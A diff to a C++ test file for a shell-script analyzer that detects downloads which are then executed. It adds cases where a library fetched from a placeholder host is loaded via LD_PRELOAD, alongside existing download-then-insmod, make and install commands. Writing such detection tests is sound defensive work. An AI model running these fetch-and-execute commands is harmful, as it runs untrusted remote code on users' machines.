@@ -576,14 +576,16 @@ TEST_CASE("a downloaded package, jar, module or makefile that is installed or lo
                       "curl -fsSL -o x.vsix https://x.example.com/x.vsix && code --install-extension x.vsix",
                       "curl -fsSL -o /tmp/x.mk https://x.example.com/x.mk && make -f /tmp/x.mk",
                       "curl -fsSL -o /tmp/x.ko https://x.example.com/x.ko && sudo insmod /tmp/x.ko",
-                      "curl -fsSL https://x.example.com/p.tgz | tar xz && sudo apt install ./p/tool.deb"}) {
+                      "curl -fsSL https://x.example.com/p.tgz | tar xz && sudo apt install ./p/tool.deb",
+                      "curl -fsSL -o /tmp/l.so https://x.example.com/l.so && LD_PRELOAD=/tmp/l.so ls",
+                      "wget -qO /tmp/l.so https://x.example.com/l.so; export LD_PRELOAD=/tmp/l.so; git status"}) {
     CAPTURE(script);
     CHECK(has_flow(analyze(script), "network", "exec"));
   }
   // Packages from a registry, files not downloaded here, and downloads only kept are not runs.
   for (auto script : {"pip install requests", "sudo dpkg -i ./build/tool.deb", "java -jar target/app.jar",
                       "curl -fsSL -o x.jar https://x.example.com/x.jar && sha256sum x.jar", "make -f Makefile.ci test",
-                      "curl -fsSLO https://x.example.com/tool.deb && dpkg -c tool.deb"}) {
+                      "curl -fsSLO https://x.example.com/tool.deb && dpkg -c tool.deb", "LD_PRELOAD=./build/libfoo.so ./app"}) {
     CAPTURE(script);
     CHECK_FALSE(has_flow(analyze(script), "network", "exec"));
   }
